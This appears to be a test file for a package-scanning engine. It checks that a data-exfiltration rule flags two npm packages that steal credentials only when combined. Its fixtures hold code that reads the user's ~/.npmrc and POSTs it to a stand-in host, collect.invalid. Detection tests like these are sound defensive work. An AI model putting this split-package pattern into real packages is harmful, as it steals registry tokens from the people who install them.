import assert from 'node:assert/strict';
import { analysePackage } from '../../../server/src/artifacts/analysis/analyse.js';
import { JudgingEngine } from '../../../server/src/engine/judging-engine.js';
import { failed, ok, type ArtifactFacts, type Outcome } from '../../../server/src/model/index.js';
import type { LookUp } from '../../../server/src/sources/source.js';
import { dataExfiltration } from '../../../server/src/rules/data-exfiltration.js';
import { packageOf } from '../../support/artifacts.js';
import { fakeParts } from '../../support/fake-engine-parts.js';
import { NOW, packument } from '../../support/subjects.js';

const DAY = 24 * 3_600_000;
const YEARS = 1000 * DAY;
const SIGNAL = new AbortController().signal;

/** One collects, the other one sends. */
const COLLECTOR = `require('sender').send(require('fs').readFileSync(require('os').homedir() + '/.npmrc', 'utf8'));`;
const SENDER = `exports.send = (data) => fetch('https://collect.invalid', { method: 'POST', body: data });`;
const HARMLESS = `exports.send = (data) => data.length;`;

interface Shop {
  /** Milliseconds since each was published. */
  readonly ages: Readonly<Record<string, number>>;
  readonly sender?: string;
  readonly lockfile?: boolean;
}

function artifactOf({ name, version }: LookUp, { sender = SENDER }: Shop): Outcome<ArtifactFacts> {
  const code = { collector: COLLECTOR, sender }[name];
  if (code === undefined) return failed('network', 'There is no such package.');
  const isOld = version === '0.9.0';
  const dependencies = name === 'sender' ? {} : { sender: '^1.0.0' };
  const manifest = JSON.stringify({ name, version, dependencies });
  return ok(analysePackage(packageOf({ 'package.json': manifest, 'index.js': isOld ? '' : code })), NOW);
}

const LOCK = JSON.stringify({
  lockfileVersion: 3,
  packages: {
    '': { dependencies: { collector: '1.0.0' } },
    'node_modules/collector': { version: '1.0.0', dependencies: { sender: '^1.0.0' } },
    'node_modules/sender': { version: '1.0.0' },
  },
});

async function judged(shop: Shop) {
  const dependencies = shop.lockfile === false ? { collector: '1.0.0', sender: '1.0.0' } : { collector: '1.0.0' };
  const files = {
    '/shop/package.json': JSON.stringify({ dependencies }),
    ...(shop.lockfile === false ? {} : { '/shop/package-lock.json': LOCK }),
  };
  const answers = {
    packument: ({ name }: LookUp) => {
      const publishedAt = NOW - (shop.ages[name] ?? YEARS);
      const versions = { '0.9.0': { publishedAt: publishedAt - 300 * DAY }, '1.0.0': { publishedAt } };
      return ok(packument({ name, createdAt: NOW - 2 * YEARS, versions }), NOW);
    },
    artifact: (request: LookUp) => artifactOf(request, shop),
  };
  const { parts, asked } = fakeParts({ files, answers, parts: { rules: [dataExfiltration] } });
  const engine = new JudgingEngine(parts);
  const project = await engine.open({ manifestPath: '/shop/package.json', trusted: true });
  assert.ok(project !== undefined);
  const { assessments } = await engine.judge(project, { scope: 'all', signal: SIGNAL });
  const findings = assessments.map(({ subject, findings: found }) => [
    subject.name,
    ...found.map(({ message }) => message),
  ]);
  const again = engine.judgeNow(project, 'all').assessments[0]?.findings.length ?? 0;
  return { findings: findings[0], again, analysed: asked.filter((one) => one.startsWith('artifact')) };
}

const SENDS = 'collector 1.0.0 sends files with credentials to collect.invalid when it is imported';
const IS_NEW = `${SENDS}, which the version before did not`;

describe('packages of a project that do something only together', () => {
  it('are put together where the one that uses the other is young', async () => {
    const { findings, again, analysed } = await judged({ ages: { collector: DAY } });
    assert.deepEqual(findings, ['collector', `${IS_NEW}, together with sender@1.0.0`]);
    assert.equal(again, 1);
    // The other one is old and brought in: it is looked into for this reason alone.
    assert.ok(analysed.includes('artifact sender@1.0.0'));
  });

  it('are put together where the one that is used is young', async () => {
    assert.deepEqual((await judged({ ages: { sender: DAY } })).findings, [
      'collector',
      `${SENDS}, together with sender@1.0.0`,
    ]);
  });

  it('are put together by the lines of the manifest where there is no lockfile', async () => {
    const { findings } = await judged({ ages: { collector: DAY }, lockfile: false });
    assert.deepEqual(findings, ['collector', `${IS_NEW}, together with sender@1.0.0`]);
  });

  it('are left as they are where both have long been read by others, or do nothing together', async () => {
    const old = await judged({ ages: {} });
    assert.deepEqual(old.findings, ['collector']);
    assert.ok(!old.analysed.includes('artifact sender@1.0.0'));
    assert.deepEqual((await judged({ ages: { collector: DAY }, sender: HARMLESS })).findings, ['collector']);
  });
});
